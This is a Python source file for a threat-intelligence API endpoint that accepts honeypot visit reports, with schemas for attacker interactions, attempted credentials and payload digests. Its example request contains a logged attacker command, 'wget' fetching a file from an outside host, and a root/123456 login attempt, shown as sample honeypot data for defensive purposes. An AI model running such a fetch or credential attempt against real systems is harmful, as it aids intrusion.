"""``POST /api/trap-intel``: what honeypots saw."""

from typing import Annotated, Any, Final, Literal

import msgspec
from msgspec import Meta

from threatcloud.domain.report import SOURCE_PATTERN
from threatcloud.http.answer import Answer, ok
from threatcloud.http.endpoint import Access, Call, Endpoint, OtherBody, RateClass, decoded, wants_of
from threatcloud.http.parameters import DATE_TIME
from threatcloud.http.threats import SealedBody, SubmittedShape, refuse_sealed, submit
from threatcloud.http.wire import Shape
from threatcloud.services.agent_uploads import MAX_SUMMARIES, TrapSummary, claim_of_summary
from threatcloud.services.reporting import Wording
from threatcloud.services.trapping import Interaction, Visit

MAX_INTERACTIONS: Final = 1000
MAX_CREDENTIALS: Final = 1000
MAX_PAYLOADS: Final = 100


class TrapQuery(msgspec.Struct, forbid_unknown_fields=True):
    """Parameters of summaries; a visit is stored whole or not at all."""

    partial: Annotated[bool, Meta(description="of an array: store the good items and name the bad ones")] = False


class InteractionItem(msgspec.Struct):
    """One thing a visitor did. Where the action says ``command``, ``exec``, ``shell`` or ``input``, data is read.

    ``download`` and ``fetch`` are read, too: a URL.
    """

    timestamp: Annotated[str, Meta(extra_json_schema=DATE_TIME)]
    action: Annotated[str, Meta(min_length=1, max_length=64)]
    data: Annotated[Any, Meta(description="a text, or an object with the `command` or `url`")] = None


class Credential(msgspec.Struct):
    """A pair that was tried; the password is kept as a keyed digest only."""

    username: Annotated[str, Meta(max_length=256)]
    password: Annotated[str, Meta(max_length=256)]


class TrapBody(msgspec.Struct, rename="camel"):
    """One visit to a honeypot."""

    trap_id: Annotated[str, Meta(pattern=SOURCE_PATTERN)]
    attacker_ip: Annotated[str, Meta(min_length=1, max_length=64)]
    honeypot_type: Literal["ssh", "http", "ftp", "smtp", "custom"]
    interactions: Annotated[list[InteractionItem], Meta(min_length=1, max_length=MAX_INTERACTIONS)]
    credentials: Annotated[list[Credential], Meta(max_length=MAX_CREDENTIALS)] = []
    payloads: Annotated[
        list[Annotated[str, Meta(max_length=128, extra_json_schema={"pattern": "^[0-9A-Fa-f]{64}$"})]],
        Meta(max_length=MAX_PAYLOADS, description="SHA-256 digests"),
    ] = []
    session_id: (
        Annotated[
            str, Meta(min_length=1, max_length=128, description="the same trapId and sessionId again stores nothing")
        ]
        | None
    ) = None


class TrapShape(Shape):
    """What became of it: the attacker's indicator, by how much its reputation moved, the campaign it falls in."""

    ioc_id: str
    reputation_delta: int
    campaign_match: str | None


_decode_summary: Final = msgspec.json.Decoder(TrapSummary).decode
_WANTS: Final = wants_of(TrapSummary)
_Summaries = Annotated[list[msgspec.Raw], Meta(min_length=1, max_length=MAX_SUMMARIES)]
_SummariesShape = Annotated[list[TrapSummary], Meta(min_length=1, max_length=MAX_SUMMARIES)]


async def report_visit(call: Call) -> Answer:
    """Stores one visit, or a batch of summaries."""
    if isinstance(call.body, list):
        claims = [decoded(raw, _decode_summary, claim_of_summary, _WANTS) for raw in call.body]
        return await submit(call, claims, Wording({"value": "sourceIP"}, "[{}]."))
    refuse_sealed(call.body)
    body: TrapBody = call.body
    visit = Visit(
        body.trap_id,
        body.attacker_ip,
        body.honeypot_type,
        [Interaction(item.timestamp, item.action, item.data) for item in body.interactions],
        [(item.username, item.password) for item in body.credentials],
        body.payloads,
        body.session_id,
    )
    done = await call.services.trapping.report(visit, call.caller)
    return ok(TrapShape(done.ioc_id, done.reputation_delta, done.campaign), 201)


ENDPOINTS: Final = (
    Endpoint(
        method="POST",
        path="/api/trap-intel",
        summary="Report a visit to a honeypot",
        description="The attacker, the payloads, and the URLs, domains and addresses that executed commands name "
        "become indicators, related to each other.\n\n"
        "Deployed honeypots send an array of 1 to 20 summaries, which are reports of the attackers and are answered as "
        "`POST /api/threats` is, with `partial` and `Idempotency-Key` as there. `sealed` uploads are refused.",
        access=Access.REPORT,
        rate=RateClass.WRITE,
        handler=report_visit,
        query=TrapQuery,
        body=TrapBody,
        own_key="attackerIp",
        others=(
            OtherBody("", _Summaries, _SummariesShape, SubmittedShape),
            OtherBody("sealed", SealedBody),
        ),
        answer=TrapShape,
        status=201,
        tag="Reports",
        errors=("conflict", "busy"),
        headers={"Idempotency-Key": "of an array: the same key and body within 24 h is answered again"},
        example={
            "trapId": "trap-1",
            "attackerIp": "203.0.113.7",
            "honeypotType": "ssh",
            "interactions": [
                {"timestamp": "2026-03-07T08:15:00.000Z", "action": "login", "data": {"username": "root"}},
                {"timestamp": "2026-03-07T08:15:09.000Z", "action": "command", "data": "wget http://203.0.113.9/x"},
            ],
            "credentials": [{"username": "root", "password": "123456"}],
        },
    ),
)
